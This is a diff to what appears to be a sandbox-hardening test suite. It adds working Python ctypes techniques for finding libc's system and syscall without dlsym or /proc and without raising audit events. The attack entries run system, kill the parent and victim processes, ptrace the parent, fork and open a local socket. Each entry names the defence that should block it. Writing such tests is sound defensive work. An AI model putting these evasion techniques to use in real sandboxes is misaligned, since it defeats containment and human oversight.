@@ -74,6 +74,41 @@ def spawn_with(fork_exec, argv, setsid=False):
                      -1, -1, -1, -1, -1, -1, r, w, True, setsid, -1, None, None, None, -1, None, False)
 
 
+def native(ctypes, names):
+    """Addresses of libc functions found with neither dlsym nor /proc: a ctypes cast reads memory
+    (no audit event), len's C function lies in libpython, whose relocations name what it imports."""
+    pointer = ctypes.POINTER(ctypes.c_uint64)
+    def q(address):
+        return ctypes.cast(address, pointer)[0]
+    def u32(address):
+        return q(address) & 0xFFFFFFFF
+    def cstr(address):
+        out = b""
+        while True:
+            word = q(address).to_bytes(8, "little")
+            if b"\\0" in word:
+                return out + word[:word.index(b"\\0")]
+            out, address = out + word, address + 8
+    base = q(q(id(len) + 16) + 8) & ~0xFFF  # len -> its PyMethodDef -> its C function
+    while u32(base) != 0x464C457F:  # back to the ELF header of the library holding it
+        base -= 0x1000
+    phoff, phnum = q(base + 0x20), q(base + 0x38) & 0xFFFF
+    dynamic = next(base + q(base + phoff + 56 * i + 16) for i in range(phnum) if u32(base + phoff + 56 * i) == 2)
+    tags = {{}}
+    while q(dynamic):
+        tags.setdefault(q(dynamic), q(dynamic + 8))
+        dynamic += 16
+    def fix(value):
+        return value if value >= base else base + value
+    symtab, strtab, found = fix(tags[6]), fix(tags[5]), {{}}
+    for start, size in ((tags.get(23), tags.get(2)), (tags.get(7), tags.get(8))):
+        for r in range(fix(start), fix(start) + size, 24) if start else ():
+            name = cstr(strtab + u32(symtab + 24 * (q(r + 8) >> 32))).decode()
+            if name in names:
+                found[name] = q(base + q(r))
+    return found
+
+
 def sleeper():
     """A command that runs for a while and carries the token on its command line."""
     import sys
@@ -210,66 +245,37 @@ ATTACKS = [
         import ctypes
         ctypes.CDLL(None).system(shell_trace().encode())
     """, "hook: ctypes events; seccomp", r"cegrad: loading or calling C code through ctypes"),
-    Attack("ctypes-function-pointer-from-proc-self-maps", """
-        import ctypes, struct
-        # libc's base address from our own memory map, system's offset from libc's ELF symbol table
-        path, base = None, None
-        for line in open("/proc/self/maps"):
-            fields = line.split()
-            if len(fields) >= 6 and "/libc.so" in fields[5] and fields[2] == "00000000":
-                path, base = fields[5], int(fields[0].split("-")[0], 16)
-                break
-        elf = open(path, "rb").read()
-        shoff, = struct.unpack_from("<Q", elf, 0x28)
-        shentsize, shnum = struct.unpack_from("<HH", elf, 0x3A)
-        sections = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]
-        dynsym = next(s for s in sections if s[1] == 11)
-        strtab = sections[dynsym[6]]
-        address = None
-        for k in range(dynsym[5] // 24):
-            name, info, other, shndx, value, size = struct.unpack_from("<IBBHQQ", elf, dynsym[4] + 24 * k)
-            end = elf.index(b"\\0", strtab[4] + name)
-            if elf[strtab[4] + name:end] == b"system":
-                address = base + value
-        system = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(address)
+    Attack("ctypes-function-pointer-without-dlsym", """
+        import ctypes
+        system = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_char_p)(native(ctypes, {"system"})["system"])
         system(shell_trace().encode())
-    """, "seccomp: no exec, no fork (a call through a ctypes pointer raises no audit event)", None, wrong=True,
-        needs=("seccomp",)),
+    """, "the sandbox serves no ctypes import; seccomp: no exec, no fork (a call through a ctypes pointer "
+         "raises no audit event)", None, wrong=True, needs=("seccomp",)),
     Attack("native-calls-through-the-ctypes-scipy-holds", """
         import scipy.special  # scipy imports ctypes (for LowLevelCallable): the module comes with it
-        import os, signal, struct
+        import os, signal, socket, struct
         ctypes = __import__("scipy._lib._ccallback", fromlist=["x"]).ctypes
-        path, base = None, None
-        for line in open("/proc/self/maps"):
-            fields = line.split()
-            if len(fields) >= 6 and "/libc.so" in fields[5] and fields[2] == "00000000":
-                path, base = fields[5], int(fields[0].split("-")[0], 16)
-                break
-        elf = open(path, "rb").read()
-        shoff, = struct.unpack_from("<Q", elf, 0x28)
-        shentsize, shnum = struct.unpack_from("<HH", elf, 0x3A)
-        sections = [struct.unpack_from("<IIQQQQIIQQ", elf, shoff + i * shentsize) for i in range(shnum)]
-        dynsym = next(s for s in sections if s[1] == 11)
-        strtab = sections[dynsym[6]]
-        symbols = {}
-        for k in range(dynsym[5] // 24):
-            name, info, other, shndx, value, size = struct.unpack_from("<IBBHQQ", elf, dynsym[4] + 24 * k)
-            end = elf.index(b"\\0", strtab[4] + name)
-            symbols[elf[strtab[4] + name:end]] = base + value
+        found = native(ctypes, {"system", "chmod", "kill", "mkfifo", "setpriority", "syscall"})
         def libc(name, *argtypes):
-            return ctypes.CFUNCTYPE(ctypes.c_long, *argtypes)(symbols[name.encode()])
+            return ctypes.CFUNCTYPE(ctypes.c_long, *argtypes)(found[name])
         text, number = ctypes.c_char_p, ctypes.c_long
+        syscall = libc("syscall", number, number, number, number, number)
         say(REACHED)
         say(f"system -> {libc('system', text)(shell_trace().encode())}")
-        fd = libc("open", text, number, number)((T["canary"] + "/native").encode(), os.O_WRONLY | os.O_CREAT, 0o666)
-        libc("write", number, text, number)(fd, T["token"].encode(), len(T["token"]))
-        libc("chmod", text, number)(T["canary_file"].encode(), 0o777)
-        libc("kill", number, number)(T["victim"], signal.SIGKILL)
-        libc("kill", number, number)(os.getppid(), signal.SIGKILL)
-        libc("ptrace", number, number, number, number)(16, os.getppid(), 0, 0)
-        libc("setpriority", number, number, number)(0, T["victim"], 19)
-        libc("mkfifo", text, number)((T["canary"] + "/native-fifo").encode(), 0o666)
-    """, "seccomp (exec, fork, kill, ptrace, setpriority, mknod); landlock (writes); no root (chmod); "
+        fd = syscall(2, ctypes.cast(text((T["canary"] + "/native").encode()), ctypes.c_void_p).value,
+                     os.O_WRONLY | os.O_CREAT, 0o666, 0)  # open(2)
+        say(f"open -> {fd}, write -> {syscall(1, fd, ctypes.cast(text(T['token'].encode()), ctypes.c_void_p).value, 8, 0)}")
+        say(f"chmod -> {libc('chmod', text, number)(T['canary_file'].encode(), 0o777)}")
+        say(f"mkfifo -> {libc('mkfifo', text, number)((T['canary'] + '/native-fifo').encode(), 0o666)}")
+        say(f"setpriority -> {libc('setpriority', number, number, number)(0, T['victim'], 19)}")
+        say(f"kill victim -> {libc('kill', number, number)(T['victim'], signal.SIGKILL)}")
+        say(f"fork -> {syscall(57, 0, 0, 0, 0)}")
+        say(f"ptrace -> {syscall(101, 16, os.getppid(), 0, 0)}")
+        address = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(T["port"]), socket.inet_aton("127.0.0.1"))
+        sock = syscall(41, socket.AF_INET, socket.SOCK_STREAM, 0, 0)
+        say(f"socket -> {sock}, connect -> {syscall(42, sock, ctypes.cast(text(address), ctypes.c_void_p).value, 16, 0)}")
+        say(f"kill parent -> {libc('kill', number, number)(os.getppid(), signal.SIGKILL)}")
+    """, "seccomp (exec, fork, socket, kill, ptrace, setpriority, mknod); landlock (writes); no root (chmod); "
          "the hook sees none of these calls", None, wrong=True, needs=("seccomp", "landlock"), must_reach=True),
     Attack("private-ctypes-module", """
         import _ctypes
